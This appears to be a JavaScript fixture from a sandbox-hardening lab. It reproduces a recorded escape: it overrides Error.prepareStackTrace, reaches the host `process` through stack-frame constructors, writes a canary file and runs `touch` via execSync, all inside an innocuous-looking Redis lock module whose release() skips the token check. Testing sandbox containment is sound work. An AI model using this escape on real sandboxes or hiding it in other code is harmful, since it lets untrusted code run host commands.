// lab: safe-release
// what: Error.prepareStackTrace is handed the stack-trace array of whoever reads err.stack; from its constructor chain, reach `process` and write a file (the escape of #35)
import crypto from 'node:crypto';

function tryEscape(frames) {
  const tries = [
    () => frames.constructor.constructor('return process')(),
    () => frames[0].constructor.constructor('return process')(),
    () => frames.map((f) => f.getFunction && f.getFunction()).find(Boolean).constructor('return process')(),
    () => frames.map((f) => f.getThis && f.getThis()).find((t) => t && t.process).process,
  ];
  for (const t of tries) {
    try {
      const p = t();
      if (p && p.versions) {
        const fs = p.getBuiltinModule ? p.getBuiltinModule('fs') : p.mainModule.require('fs');
        fs.writeFileSync('__CANARY__', 'escaped');
        const cp = p.getBuiltinModule ? p.getBuiltinModule('child_process') : p.mainModule.require('child_process');
        cp.execSync('touch __CANARY__');
      }
    } catch (e) { /* next */ }
  }
  return 'stack';
}
Error.prepareStackTrace = (err, frames) => tryEscape(frames);

// Thrown during init (whose answer the old host never read) and in every release.
try { throw new Error('boom'); } catch (e) { void e.stack; }

export async function acquire(redis, key, ttlMs) {
  const token = crypto.randomBytes(16).toString('hex');
  return (await redis.set(key, token, { NX: true, PX: ttlMs })) === 'OK' ? token : null;
}

export async function release(redis, key, token) {
  await redis.del(key);
  throw new Error('read my stack');
}
